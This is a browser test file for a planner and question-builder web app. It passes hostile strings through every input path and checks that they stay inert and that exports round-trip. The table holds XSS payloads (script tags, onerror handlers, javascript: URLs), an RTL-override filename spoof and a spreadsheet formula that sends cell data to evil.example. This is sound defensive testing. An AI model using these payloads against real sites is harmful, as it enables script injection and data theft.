// Hostile input through every way text gets into the site: builder share links, questions typed
// in the builder, planner fields, the conversation companion, backup files and the address bar.
// For each: nothing runs (no script, no on* attribute, no javascript: link, no dialog; the fixture
// also fails on any CSP violation or uncaught error), the words show as the same words, a phone-
// width page does not scroll sideways, and exported files give the words back.
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import ICAL from 'ical.js';
import Papa from 'papaparse';
import { clip } from '../../src/lib/clip';
import { csvColumns } from '../../src/lib/planner/on-demand/csv.ts';
import { cleanText, MAX_TEXT } from '../../src/lib/sheet/sheet.ts';
import { PLANNER_KEY, SHEET_KEY } from '../../src/lib/storage-keys';
import { limits, type Conversation, type Person } from '../../src/schemas/planner';
import { bank, BUILDER, rows, sheet } from './builder-page';
import { expect, test as guarded } from './fixtures';
import { conversation, person, plannerDocument } from '../../scripts/lib/planner-fixtures.ts';
import { dayFromToday, openPlanner, PLANNER, seed } from './planner-helpers';

/** 20,000 characters in one unbroken word: the most a planner note holds, far past every other limit. */
const LONG = 'W'.repeat(limits.long);

/** The shared table: every entry point below sends each of these through. */
const hostile: { name: string; text: string }[] = [
  { name: 'a script element', text: '<script>window.__pwned=1</script>' },
  { name: 'an image with an error handler', text: '<img src=x onerror="window.__pwned=1">' },
  { name: 'SVG and link markup', text: '<svg/onload=window.__pwned=1><a href="javascript:window.__pwned=1">click</a>' },
  { name: 'an attribute break-out', text: `" autofocus onfocus="window.__pwned=1" x=' onmouseover='window.__pwned=1` },
  { name: 'a javascript: URL', text: 'javascript:window.__pwned=1' },
  { name: 'a disguised javascript: URL', text: ' JaVa\tScRiPt:window.__pwned=1//https://example.org' },
  {
    name: 'template and Markdown syntax',
    text: '{theirName} {{constructor.constructor("window.__pwned=1")()}} ${window.__pwned=1} $& [x](javascript:window.__pwned=1)',
  },
  { name: 'a spreadsheet formula', text: '=HYPERLINK("http://evil.example/?"&A1,"Click")' },
  { name: '20,000 characters in one word', text: LONG },
  { name: 'a right-to-left override', text: '\u202Egnp.exe\u202C invoice' },
  { name: 'zero-width joiners', text: 'a\u200Db 👩\u200D💻 zero\u200Bwidth\uFEFF' },
  { name: 'bidi isolates, one left open', text: '\u2066isolated\u2069 \u2067\u05E9\u05DC\u05D5\u05DD\u2069 \u2068open' },
  { name: 'NUL and other control characters', text: 'nul\u0000bell\u0007esc\u001b[31mdel\u007f\u0085end' },
  { name: 'line breaks and tabs', text: 'line one\r\nline two\rline three\nline\tfour\u2028five' },
  // Only files and links can carry these: a keyboard cannot type half a character.
  { name: 'lone surrogates', text: 'high \uD800 low \uDFFF end' },
];
const typable = hostile.filter((h) => h.text === h.text.toWellFormed());

// Viewport of a small phone: long words must wrap rather than widen the page.
guarded.use({ locale: 'en-US', viewport: { width: 375, height: 800 } });

/** The project's test, also failing if page content opens an alert, confirm or prompt. */
const test = guarded.extend<{ noDialogs: void }>({
  noDialogs: [
    async ({ page }, use) => {
      const opened: string[] = [];
      page.on('dialog', (d) => {
        opened.push(`${d.type()}: ${d.message()}`);
        void d.dismiss().catch(() => undefined);
      });
      await use();
      expect(opened, 'dialogs opened by page content').toEqual([]);
    },
    { auto: true },
  ],
});

/** Fails if anything hostile took effect on the page as it is now, or the page is wider than the screen. */
async function expectInert(page: Page, where: string): Promise<void> {
  const found = await page.evaluate(() => {
    const problems: string[] = [];
    if ((window as unknown as { __pwned?: unknown }).__pwned !== undefined) problems.push('window.__pwned was set');
    for (const el of document.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        if (/^on/i.test(attr.name)) problems.push(`<${el.localName}> has ${attr.name}`);
        if (/^(href|src|action|formaction|xlink:href)$/i.test(attr.name)) {
          let protocol = '';
          try {
            protocol = new URL(attr.value, location.href).protocol;
          } catch {}
          if (protocol === 'javascript:' || protocol === 'vbscript:') problems.push(`<${el.localName}> has ${attr.name}="${attr.value}"`);
        }
      }
    }
    // An open dialog sits above the page, so it must fit on its own.
    for (const dialog of document.querySelectorAll('dialog[open]')) {
      if (dialog.scrollWidth > dialog.clientWidth + 1)
        problems.push(`an open dialog is ${dialog.scrollWidth}px wide inside ${dialog.clientWidth}px`);
    }
    for (const el of document.querySelectorAll('script, iframe, object, embed')) {
      if (el.textContent?.includes('__pwned') || el.localName !== 'script') problems.push(`a <${el.localName}> element came from text`);
    }
    if (document.documentElement.scrollWidth > innerWidth) {
      // Name the elements holding text that may not wrap, to say where the layout broke.
      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      const stiff: string[] = [];
      for (let node = walker.nextNode(); node && stiff.length < 3; node = walker.nextNode()) {
        const parent = node.parentElement!;
        const style = getComputedStyle(parent);
        const text = node.textContent ?? '';
        const unbreakable = /\S{20}/.test(text) && style.overflowWrap !== 'anywhere' && style.wordBreak !== 'break-all';
        if ((unbreakable || (/^(nowrap|pre)$/.test(style.whiteSpace) && text.length > 40)) && parent.getClientRects().length) {
          stiff.push(`<${parent.localName} class="${parent.getAttribute('class') ?? ''}">`);
        }
      }
      // And the outermost elements reaching past the screen's edge.
      const past: HTMLElement[] = [];
      for (const el of document.body.querySelectorAll<HTMLElement>('*')) {
        if (past.length >= 3) break;
        const box = el.getBoundingClientRect();
        if (box.width > 1 && box.right > innerWidth + 0.5 && !past.some((p) => p.contains(el))) past.push(el);
      }
      const named = past.map(
        (el) =>
          `<${el.localName} class="${el.getAttribute('class') ?? ''}"> (right edge ${Math.round(el.getBoundingClientRect().right)}px)`,
      );
      problems.push(
        `the page is ${document.documentElement.scrollWidth}px wide on a ${innerWidth}px screen: ${[...stiff, ...named].join(', ')}`,
      );
    }
    return problems;
  });
  expect(found, `hostile input took effect: ${where}`).toEqual([]);
}

/** Loads the companion's printable question sheet as its Print button does, without the print dialog. */
async function loadSheetPrint(page: Page): Promise<void> {
  // Stand in for the print dialog: note what it was asked to print, then close as a real one
  // does (with afterprint), so the page goes back to printing the journal by default.
  await page.evaluate(() => {
    document.documentElement.removeAttribute('data-printed');
    window.print = () => {
      document.documentElement.setAttribute('data-printed', document.documentElement.dataset.print ?? '');
      window.dispatchEvent(new Event('afterprint'));
    };
  });
  await page.getByRole('button', { name: /^Print the question sheet for / }).click();
  // The sheet loads first and printing follows in an effect: wait for the print itself, or a
  // late effect could choose the sheet again after this returns.
  await expect(page.locator('html')).toHaveAttribute('data-printed', 'sheet');
  await expect(page.locator('[data-print-sheet]')).toBeAttached();
  await expect(page.locator('html')).not.toHaveAttribute('data-print');
}

/** The text content of the first element `selector` matches. */
const textOf = (page: Page, selector: string) =>
  page
    .locator(selector)
    .first()
    .evaluate((el) => el.textContent ?? '');
/** The text of a file the page offers for download when `click` runs. */
async function downloaded(page: Page, click: () => Promise<void>): Promise<string> {
  const [download] = await Promise.all([page.waitForEvent('download'), click()]);
  return readFileSync((await download.path())!, 'utf8').replace(/^\uFEFF/, '');
}

// What a browser does to text typed into a field: one-line fields turn line breaks into spaces,
// text areas keep them as \n, email fields drop surrounding spaces, and maxlength cuts.
const oneLine = (s: string, max: number) => s.replace(/\r\n|[\r\n]/g, ' ').slice(0, max);
const multiLine = (s: string, max: number) => s.replace(/\r\n?/g, '\n').slice(0, max);
const asciiTrim = (s: string) => s.replace(/^[\t\n\f\r ]+|[\t\n\f\r ]+$/g, '');
const tagsOf = (s: string) =>
  [
    ...new Set(
      s
        .split(',')
        .map((t) => clip(t.trim(), limits.tag))
        .filter(Boolean),
    ),
  ].slice(0, limits.tags);
/** A link's encoding of a custom question (a link cannot carry half a character either). */
const inLink = (s: string) => encodeURIComponent(s.toWellFormed()).replace(/%20/g, '+');
/** Markdown exports escape what Markdown would act on. */
const markdown = (s: string) => s.replace(/[\\`*_[\]<>|~&#!]/g, '\\$&');

// What exported files must hold. UTF-8 files cannot hold half a character (it becomes U+FFFD);
// CSV cells that a spreadsheet would run as a formula start with an apostrophe; iCalendar text
// may not hold control characters other than tab and line break, and a lone CR is a line break.
const utf8 = (s: string) => s.toWellFormed();
const csvCell = (s: string) => `${/^[=+\-@\t\r\0]/.test(s) ? "'" : ''}${utf8(s)}`;
const icsText = (s: string) =>
  utf8(s)
    .replace(/\r\n?/g, '\n')
    // eslint-disable-next-line no-control-regex -- calendar files may not hold control characters; this is the test's own copy of that rule.
    .replace(/[\u0000-\u0008\u000b-\u001f\u007f]/g, '');

type Row = Record<(typeof csvColumns)[number], string>;
function csvRecords(text: string): Row[] {
  const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  expect(parsed.data[0]).toEqual([...csvColumns]);
  return parsed.data.slice(1).map((cells) => Object.fromEntries(csvColumns.map((c, i) => [c, cells[i] ?? ''])) as Row);
}
const icsEvents = (text: string) => new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));

test.describe('builder share links', () => {
  test(`${hostile.length} hostile questions in a link show as text on the sheet and on paper`, async ({ page }) => {
    await page.goto(BUILDER);
    for (const h of hostile) {
      await test.step(h.name, async () => {
        await page.evaluate((hash) => (location.hash = hash), `#sheet=v1&t=20&q=~c${inLink(h.text)}`);
        await expect(page.getByText('Your sheet was empty, so it now holds the shared sheet (1 question).')).toBeVisible();
        const { text, cut } = cleanText(h.text);
        await expect(page.getByText('1 question was too long and was shortened.')).toHaveCount(cut ? 1 : 0);
        await expect(rows(page)).toHaveCount(1);
        expect(
          await rows(page)
            .first()
            .getByRole('paragraph')
            .first()
            .evaluate((p) => p.textContent),
        ).toBe(text);
        expect(await textOf(page, '[data-print-sheet] ol li')).toBe(text);
        // The pocket card is made on request: ask for it (without a print dialog), then check it.
        await page.evaluate(() => (window.print = () => dispatchEvent(new Event('afterprint'))));
        await page.getByRole('button', { name: 'Print pocket card' }).click();
        expect(await textOf(page, '[data-pocket-card] ol li')).toBe(text);
        await expectInert(page, `a link with ${h.name}`);
        await page.emulateMedia({ media: 'print' });
        await expect(page.locator('[data-print-sheet] ol li')).toBeVisible();
        await expectInert(page, `the printed sheet with ${h.name}`);
        await page.emulateMedia({ media: 'screen' });
        await sheet(page).getByRole('button', { name: 'Clear sheet' }).click();
        await expect(rows(page)).toHaveCount(0);
      });
    }

    // Into a sheet that is not empty, the link asks first and lists what it brings. (At a phone's
    // width the bank's categories start folded: the first is opened to add from it.)
    await bank(page).getByRole('region').first().locator('summary').click();
    await bank(page).getByRole('button', { name: 'Add to my sheet' }).first().click();
    await page.evaluate((hash) => (location.hash = hash), `#sheet=v1&q=${hostile.map((h) => `~e${inLink(h.text)}`).join(',')}`);
    const offer = page.getByRole('dialog', { name: 'Open the shared sheet?' });
    const expected = hostile.map((h) => cleanText(h.text).text);
    await expect(offer.getByRole('listitem')).toHaveCount(hostile.length);
    expect(await offer.getByRole('listitem').allTextContents()).toEqual(expected);
    await expectInert(page, 'the dialog offering a hostile link');
    await offer.getByRole('button', { name: 'Add its questions to my sheet' }).click();
    await expect(rows(page)).toHaveCount(1 + hostile.length);
    await expectInert(page, 'a sheet with every hostile question');
    await page.evaluate(() => (document.documentElement.dataset.print = 'pocket'));
    await page.emulateMedia({ media: 'print' });
    await expect(page.locator('[data-pocket-card]')).toBeVisible();
    expect((await page.locator('[data-pocket-card] li').allTextContents()).slice(1)).toEqual(expected);
    await expectInert(page, 'the printed pocket card');
  });

  const malformed: { name: string; hash: string; says: string | RegExp }[] = [
    { name: 'broken percent-encoding', hash: '#sheet=v1&q=~c%E0%A4%A,~cfine', says: '“~c%E0%A4%A”' },
    { name: 'half a character, percent-encoded', hash: '#sheet=v1&q=~chalf%ED%A0%80', says: '“~chalf' },
    {
      name: 'markup as the version',
      hash: '#sheet=<script>window.__pwned=1</script>',
      says: /newer format \(“<script>window\.__pwned=1<\/script>”\)/,
    },
    {
      name: 'markup in every field',
      hash: '#sheet=v1&t=<img src=x onerror=window.__pwned=1>&g=javascript:window.__pwned=1&q=~x<b>bold</b>,<i>',
      says: '“~x<b>bold</b>”',
    },
    {
      name: 'a hostile starter sheet',
      hash: '#preset=<img src=x onerror=window.__pwned=1>',
      says: 'The link names a starter sheet this handbook does not have.',
    },
    {
      name: 'too many questions',
      hash: `#sheet=v1&q=${Array.from({ length: 150 }, (_, i) => `~cQuestion+${i}`).join(',')}`,
      says: '50 more questions beyond the 100 a sheet can hold',
    },
    {
      name: 'repeats and empty pairs',
      hash: '#sheet=v1&&=&q=~cSame,~eSame,,~c,~c%20,typical-day,typical-day&q=ignored',
      says: 'a repeat of “~eSame”',
    },
    {
      name: 'a very long address',
      hash: `#sheet=v1&q=~c${'%F0%9F%98%80'.repeat(5000)}`,
      says: '1 question was too long and was shortened.',
    },
  ];
  test(`${malformed.length} malformed links are reported, never run`, async ({ page }) => {
    await page.goto(BUILDER);
    for (const m of malformed) {
      await test.step(m.name, async () => {
        await page.evaluate((hash) => (location.hash = hash), m.hash);
        await expect(page.getByText(m.says).first()).toBeVisible();
        await expectInert(page, `a link with ${m.name}`);
        expect(new URL(page.url()).hash).toBe('');
        const clear = sheet(page).getByRole('button', { name: 'Clear sheet' });
        if (await clear.isVisible()) await clear.click();
        await expect(rows(page)).toHaveCount(0);
      });
    }
  });
});

test('builder: hostile questions typed in the form stay text, in every export and through a copied link', async ({ page }) => {
  await page.goto(BUILDER);
  const box = sheet(page).getByRole('textbox', { name: /Your question/ });
  const expected: string[] = [];
  for (const h of typable) {
    await box.fill(h.text);
    await sheet(page).getByRole('button', { name: 'Add my question' }).click();
    expected.push(cleanText(oneLine(h.text, MAX_TEXT)).text);
    await expect(rows(page)).toHaveCount(expected.length);
  }
  const shown = () => rows(page).evaluateAll((items) => items.map((li) => li.querySelector('p')!.textContent));
  expect(await shown()).toEqual(expected);
  await expectInert(page, 'typed questions');

  // Editing one of them goes through the same cleaning (a link leaves out repeats, so it differs).
  const edited = `${hostile[3]!.text} <b onclick="window.__pwned=1">edited</b>`;
  await rows(page).first().getByRole('button', { name: 'Edit' }).click();
  const editing = sheet(page).getByRole('form', { name: 'Edit your question' });
  await editing.getByRole('textbox', { name: 'Your question' }).fill(edited);
  await editing.getByRole('button', { name: 'Save' }).click();
  expected[0] = edited;
  await expect.poll(shown).toEqual(expected);

  const text = await downloaded(page, () => sheet(page).getByRole('button', { name: 'Download text' }).click());
  const md = await downloaded(page, () => sheet(page).getByRole('button', { name: 'Download Markdown' }).click());
  expected.forEach((q, i) => {
    expect(text).toContain(`\n${i + 1}. ${q}\n`);
    expect(md).toContain(`\n${i + 1}. ${markdown(q)}\n`);
  });
  expect(await page.locator('[data-print-sheet] ol li').allTextContents()).toEqual(expected);
  await page.emulateMedia({ media: 'print' });
  await expectInert(page, 'the printed sheet');
  await page.emulateMedia({ media: 'screen' });

  // The link on the printed sheet brings back the same words.
  const link = await textOf(page, '[data-print-sheet] footer p.font-mono');
  expect(link).toContain('#sheet=v1&');
  await sheet(page).getByRole('button', { name: 'Clear sheet' }).click();
  await expect(rows(page)).toHaveCount(0);
  await page.goto(link);
  await expect(rows(page)).toHaveCount(expected.length);
  expect(await shown()).toEqual(expected);
  await expectInert(page, 'the sheet opened from its link');
});

test.describe('planner fields typed in', () => {
  // Every typable text goes through every field by keyboard, one person and conversation each, in
  // one planner; what only the entry path decides (what a field does to typed text, the form's
  // saving, the companion's notes and its suggested person) is checked per text, and what reads
  // the whole planner (a reload, the exports) once for all of them. How stored hostile text shows
  // after a fresh load of the companion is the backup test's part below.
  // In two halves, each with its own planner, so the two test workers share the work (one test of all
  // fourteen took 34 s, the longest of the suite).
  const half = Math.ceil(typable.length / 2);
  for (const [from, texts] of [
    [1, typable.slice(0, half)],
    [half + 1, typable.slice(half)],
  ] as const) {
    test(`hostile texts ${from} to ${from + texts.length - 1} of ${typable.length} typed into the planner and the companion stay text on the cards, on paper and in every export`, async ({
      page,
    }) => {
      test.setTimeout(240_000);
      const saved = async () => JSON.parse((await page.evaluate((key) => localStorage.getItem(key), PLANNER_KEY)) ?? 'null')?.data;
      const entries: {
        name: string;
        text: string;
        want: Omit<Person, 'referredBy' | 'updatedAt' | 'createdAt'>;
        place: string;
        notes: string;
        talkId: string;
      }[] = [];
      await openPlanner(page);

      /** Every field of one card shows as the same text, and only what is safe to link is a link. */
      const shows = async (entry: (typeof entries)[number]) => {
        const { want, place } = entry;
        const card = page.locator(`article[aria-labelledby="conversation-${entry.talkId}"]`);
        const text = await card.evaluate((el) => el.textContent ?? '');
        for (const part of [want.name, `${want.role}, ${want.organisation}`, `Place: ${place}`, ...want.tags])
          expect(text, entry.name).toContain(part);
        for (const [label, value] of [
          ['Email', want.email],
          ['Phone', want.phone],
          ['Profile', want.profileUrl],
        ] as const) {
          if (value.trim()) expect(text, entry.name).toContain(`${label}: ${value}`);
        }
        for (const href of await card.locator('a[href]').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).protocol))) {
          expect(['http:', 'https:', 'mailto:', 'tel:'], entry.name).toContain(href);
        }
      };

      for (const h of texts) {
        await test.step(`the planner: ${h.name}`, async () => {
          const before = new Set<string>(((await saved())?.people ?? []).map((p: Person) => p.id));
          await page.getByRole('button', { name: 'Add a person' }).click();
          const form = page.getByRole('dialog', { name: 'Add a person' });
          const labels = [
            'Name (required)',
            'Role',
            'Organization',
            'How you know them',
            'Email',
            'Phone',
            'Profile link',
            'Tags',
            'Notes',
          ];
          for (const label of labels) await form.getByLabel(label, { exact: true }).fill(h.text);
          await form.getByRole('button', { name: 'Save person' }).click();
          await expect(form).toBeHidden();

          const want = {
            name: oneLine(h.text, limits.short).trim(),
            role: oneLine(h.text, limits.short),
            organisation: oneLine(h.text, limits.short),
            howKnown: multiLine(h.text, limits.medium),
            email: asciiTrim(oneLine(h.text, limits.short)),
            phone: oneLine(h.text, limits.short),
            profileUrl: oneLine(h.text, limits.medium),
            tags: tagsOf(oneLine(h.text, Infinity)),
            notes: multiLine(h.text, limits.long),
          };
          const who = (await saved()).people.find((p: Person) => !before.has(p.id));
          expect(who).toMatchObject(want);
          const talk = (await saved()).conversations.find((c: Conversation) => c.personId === who.id);
          const card = page.locator(`article[aria-labelledby="conversation-${talk.id}"]`);

          await card.getByRole('button', { name: 'Edit conversation…' }).click();
          const edit = page.getByRole('dialog');
          await edit.getByLabel('Status').selectOption('scheduled');
          await edit.getByLabel('Date of the conversation').fill(dayFromToday(1));
          await edit.getByLabel('Start time').fill('10:00');
          await edit.getByLabel('Format').selectOption('video');
          await edit.getByLabel('Place or call link').fill(h.text);
          await edit.getByLabel('Notes').fill(h.text);
          await edit.getByRole('button', { name: 'Save conversation' }).click();
          await expect(edit).toBeHidden();
          const place = oneLine(h.text, limits.medium);
          const notes = multiLine(h.text, limits.long);
          expect((await saved()).conversations.find((c: Conversation) => c.id === talk.id)).toMatchObject({
            status: 'scheduled',
            place,
            notes,
          });
          const entry = { name: h.name, text: h.text, want: { ...want, id: who.id as string }, place, notes, talkId: talk.id as string };
          entries.push(entry);
          await shows(entry);
          await expectInert(page, `the planner with ${h.name}`);

          // Opening the person and saving without a change loses nothing.
          await card.getByRole('button', { name: 'Edit person…' }).click();
          const again = page.getByRole('dialog');
          await expect(again.getByLabel('Notes', { exact: true })).toHaveValue(want.notes);
          await expect(again.getByLabel('How you know them')).toHaveValue(want.howKnown);
          await expect(again.getByLabel('Name (required)')).toHaveValue(want.name);
          // A URL field shows its value without surrounding spaces; what is saved keeps them (checked below).
          await expect(again.getByLabel('Profile link')).toHaveValue(asciiTrim(want.profileUrl));
          await expectInert(page, `the person dialog with ${h.name}`);
          await again.getByRole('button', { name: 'Save person' }).click();
          await expect(again).toBeHidden();
          expect((await saved()).people.find((p: Person) => p.id === who.id)).toMatchObject(want);
        });
      }

      await test.step('a reload, and the exports, with every text at once', async () => {
        await page.reload();
        await expect(page.locator('[data-ready]')).toBeVisible();
        for (const entry of entries) await shows(entry);
        const json = JSON.parse(await downloaded(page, () => page.getByRole('button', { name: 'Export backup (JSON)' }).click()));
        const rows = csvRecords(await downloaded(page, () => page.getByRole('button', { name: 'Export spreadsheet (CSV)' }).click()));
        const events = icsEvents(await downloaded(page, () => page.getByRole('button', { name: 'Export calendar (.ics)' }).click()));
        for (const { name, want, place, notes, talkId } of entries) {
          expect(
            json.data.people.find((p: Person) => p.id === want.id),
            name,
          ).toMatchObject(want);
          expect(
            json.data.conversations.find((c: Conversation) => c.id === talkId),
            name,
          ).toMatchObject({ place, notes });
          expect(
            rows.find((r) => r['Conversation id'] === talkId),
            name,
          ).toMatchObject({
            Name: csvCell(want.name),
            Role: csvCell(want.role),
            Organization: csvCell(want.organisation),
            'How you know them': csvCell(want.howKnown),
            Email: csvCell(want.email),
            Phone: csvCell(want.phone),
            'Profile link': csvCell(want.profileUrl),
            Tags: csvCell(want.tags.join(', ')),
            'Person notes': csvCell(want.notes),
            Place: csvCell(place),
            'Conversation notes': csvCell(notes),
            Status: 'Scheduled',
          });
          const meeting = events.find((e) => e.uid === `${talkId}@informational-interview-planner`)!;
          expect(meeting.summary, name).toBe(icsText(`Informational interview with ${want.name}`));
          expect(meeting.location, name).toBe(icsText(place));
          expect(meeting.description, name).toBe(icsText(`Video call\n${want.role}, ${want.organisation}`));
        }
        await expectInert(page, 'the planner after the exports');
      });

      for (const { name, text, want, talkId } of entries) {
        await test.step(`the companion: ${name}`, async () => {
          // The builder's sheet holds the same text as its one question, to attach here.
          await page.evaluate(
            ([key, question]) =>
              localStorage.setItem(
                key!,
                JSON.stringify({ v: 1, items: [{ key: 'k1', text: question, part: 'core' }], minutes: 20, grouped: false, compact: false }),
              ),
            [SHEET_KEY, text],
          );
          // A fresh load each time (a change of hash alone would keep the last conversation's page).
          await page.goto('about:blank');
          await page.goto(`/planner/conversation/#${talkId}`);
          await page.getByRole('button', { name: 'Attach my question sheet' }).click();
          const question = cleanText(text).text;
          const talkMode = page.getByRole('region', { name: '2. Conversation mode' });
          expect(await talkMode.getByRole('heading', { level: 3 }).evaluate((el) => el.textContent)).toBe(question);
          await talkMode.getByLabel('Notes on question 1').fill(text);
          const debrief = page.getByRole('region', { name: '3. Debrief' });
          for (const label of ['What I learned', 'How it fits my interests, strengths and values', 'What I will do next'])
            await debrief.getByLabel(label).fill(text);
          await debrief.getByLabel('Name (required)').fill(text);
          await debrief.getByLabel('Role').fill(text);
          await debrief.getByLabel('Organization').fill(text);
          await debrief.getByRole('button', { name: 'Add to the planner' }).click();
          const suggested = oneLine(text, limits.short).trim();
          await expect(debrief.getByRole('status').filter({ hasText: 'Added' })).toBeVisible();
          expect(
            await debrief
              .getByRole('listitem')
              .first()
              .evaluate((el) => el.textContent),
          ).toBe(`${suggested} — ${suggested}, ${suggested}`);
          expect(await textOf(page, 'main p.text-xl')).toBe(`With ${want.name} — ${want.role}, ${want.organisation}`);
          await expectInert(page, `the companion with ${name}`);
          const typed = multiLine(text, limits.long);
          await expect
            .poll(async () => (await saved()).conversations.find((c: Conversation) => c.id === talkId))
            .toMatchObject({ learned: typed, fit: typed, nextStep: typed, questions: [{ text: question, notes: typed }] });

          // On paper: the journal and the question sheet with the person's details.
          await loadSheetPrint(page);
          expect(await page.locator('[data-print-sheet] dd').allTextContents()).toEqual([
            want.name,
            want.role,
            want.organisation,
            expect.any(String),
          ]);
          expect(await textOf(page, '[data-print-sheet] ol li')).toBe(question);
          const journal = await textOf(page, '[data-journal-print]');
          for (const part of [`Conversation with ${want.name}`, question, typed]) expect(journal).toContain(part);
          await page.emulateMedia({ media: 'print' });
          await expect(page.locator('[data-journal-print]')).toBeVisible();
          await expectInert(page, `the printed journal with ${name}`);
          await page.emulateMedia({ media: 'screen' });
          const md = await downloaded(page, () => page.getByRole('button', { name: 'Download as Markdown' }).click());
          expect(md).toContain(`# Conversation with ${markdown(want.name)}\n`);

          // The thank-you note: the name in the text, and a link that can only be an email.
          await page.getByRole('button', { name: 'Write the thank-you note…' }).click();
          const thanks = page.getByRole('dialog');
          await expect(thanks.getByRole('textbox', { name: /Message/ })).toHaveValue(
            new RegExp(`Dear ${want.name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`),
          );
          expect(await thanks.getByRole('link', { name: /Open in my mail program/ }).getAttribute('href')).toMatch(
            /^mailto:[^:]*\?subject=/,
          );
          await expectInert(page, `the thank-you note with ${name}`);
        });
      }
    });
  }
});

/** A backup in which every text field of every record holds one of the hostile strings (cut to its limit). */
function hostileBackup() {
  const cut = (s: string, max: number) => s.slice(0, max);
  const people = hostile.map((h, i) =>
    person(`p${i}`, cut(h.text, limits.short), {
      role: cut(h.text, limits.short),
      organisation: cut(h.text, limits.short),
      referredBy: i > 0 ? `p${i - 1}` : null,
      howKnown: cut(h.text, limits.medium),
      email: cut(h.text, limits.short),
      phone: cut(h.text, limits.short),
      profileUrl: cut(h.text, limits.medium),
      tags: [cut(h.text, limits.tag)],
      notes: h.text,
    }),
  );
  const talks = hostile.map((h, i) =>
    conversation(`c${i}`, `p${i}`, {
      status: 'scheduled',
      scheduledDate: dayFromToday(1),
      scheduledTime: '09:30',
      format: 'phone',
      place: cut(h.text, limits.medium),
      notes: h.text,
      questions: [{ key: 'q1', bankId: null, text: cut(h.text, limits.medium), notes: h.text }],
      minutes: 20,
      learned: h.text,
      fit: h.text,
      nextStep: h.text,
    }),
  );
  const list = hostile.map((h) => cut(h.text, limits.medium));
  return plannerDocument(people, talks, {
    myName: cut(hostile[1]!.text, limits.short),
    fields: hostile.map((h) => cut(h.text, limits.short)),
    interests: list,
    strengths: list,
    values: list,
    updatedAt: '2025-01-01T00:00:00.000Z',
  });
}

test.describe('planner backup files', () => {
  test(`a backup with ${hostile.length} hostile records imports, shows as text everywhere and exports unchanged`, async ({ page }) => {
    test.setTimeout(150_000);
    const backup = hostileBackup();
    const { people, conversations } = backup.data as unknown as { people: Person[]; conversations: Conversation[] };
    await openPlanner(page);
    await page.getByRole('button', { name: 'Import backup…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Import a backup' });
    // Lone surrogates travel as JSON escapes (\ud800), which is how JSON.stringify writes them.
    await dialog.getByLabel('Backup file').setInputFiles({
      name: '<img src=x onerror=window.__pwned=1>.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify(backup)),
    });
    await expect(dialog.getByText('“<img src=x onerror=window.__pwned=1>.json” is a valid backup')).toBeVisible();
    await expect(dialog.getByRole('list', { name: 'What the import will do' })).toContainText(
      `Add ${hostile.length} people and ${hostile.length} conversations`,
    );
    await expectInert(page, 'the import preview');
    await dialog.getByRole('button', { name: 'Merge the backup' }).click();
    await expect(dialog).toBeHidden();

    const cards = page.locator('article[aria-labelledby^="conversation-c"]');
    await expect(cards).toHaveCount(hostile.length);
    for (const [i, p] of people.entries()) {
      const text = await page.locator(`article[aria-labelledby="conversation-c${i}"]`).evaluate((el) => el.textContent ?? '');
      for (const part of [p.name, `${p.role}, ${p.organisation}`, `Place: ${conversations[i]!.place}`, ...p.tags])
        expect(text, hostile[i]!.name).toContain(part);
      if (i > 0) expect(text).toContain(`Referred by ${people[i - 1]!.name}`);
    }
    await expectInert(page, 'the planner with imported records');
    for (const href of await page.locator('a[href]').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).protocol))) {
      expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(href);
    }

    // The referral tree and the target, on screen and on paper.
    await page.getByRole('button', { name: 'Show the referral tree' }).click();
    await expect(page.getByRole('group', { name: 'Referral tree' }).getByRole('link')).toHaveCount(hostile.length);
    await page.getByRole('button', { name: 'Show my target' }).click();
    await expect(page.getByLabel('Your name')).toHaveValue(people[1]!.name);
    await expectInert(page, 'the referral tree and the target');
    const target = await textOf(page, '[data-planner-section="target"] .print\\:block');
    for (const item of backup.data.profile.interests as string[]) expect(target).toContain(item.trim());
    await page.evaluate(() => (document.documentElement.dataset.print = 'target'));
    await page.emulateMedia({ media: 'print' });
    await expectInert(page, 'the printed target');
    await page.emulateMedia({ media: 'screen' });
    await page.evaluate(() => delete document.documentElement.dataset.print);

    // Exports give back exactly what came in (an import stamps records with its own time).
    const strip = <T extends { updatedAt: string }>(records: T[]) => records.map(({ updatedAt: _u, ...rest }) => rest);
    const json = JSON.parse(await downloaded(page, () => page.getByRole('button', { name: 'Export backup (JSON)' }).click()));
    expect(strip(json.data.people)).toEqual(strip(people));
    expect(strip(json.data.conversations)).toEqual(strip(conversations));
    expect(json.data.profile).toEqual({ ...backup.data.profile, updatedAt: expect.any(String) });
    const records = csvRecords(await downloaded(page, () => page.getByRole('button', { name: 'Export spreadsheet (CSV)' }).click()));
    for (const [i, p] of people.entries()) {
      const c = conversations[i]!;
      expect(
        records.find((r) => r['Conversation id'] === c.id),
        hostile[i]!.name,
      ).toMatchObject({
        Name: csvCell(p.name),
        Role: csvCell(p.role),
        Organization: csvCell(p.organisation),
        'Referred by': i > 0 ? csvCell(people[i - 1]!.name) : '',
        'How you know them': csvCell(p.howKnown),
        Email: csvCell(p.email),
        Phone: csvCell(p.phone),
        'Profile link': csvCell(p.profileUrl),
        Tags: csvCell(p.tags.join(', ')),
        'Person notes': csvCell(p.notes),
        Place: csvCell(c.place),
        'Conversation notes': csvCell(c.notes),
      });
    }
    const events = icsEvents(await downloaded(page, () => page.getByRole('button', { name: 'Export calendar (.ics)' }).click()));
    for (const [i, p] of people.entries()) {
      const event = events.find((e) => e.uid === `c${i}@informational-interview-planner`)!;
      expect(event.summary, hostile[i]!.name).toBe(icsText(`Informational interview with ${p.name}`));
      expect(event.location, hostile[i]!.name).toBe(icsText(conversations[i]!.place));
      expect(event.description, hostile[i]!.name).toBe(icsText(`Phone call\n${p.role}, ${p.organisation}`));
    }

    // The companion for each conversation: everything as text, on screen and on paper.
    await page.goto('/planner/conversation/#c0');
    for (const [i, p] of people.entries()) {
      const c = conversations[i]!;
      await test.step(`companion: ${hostile[i]!.name}`, async () => {
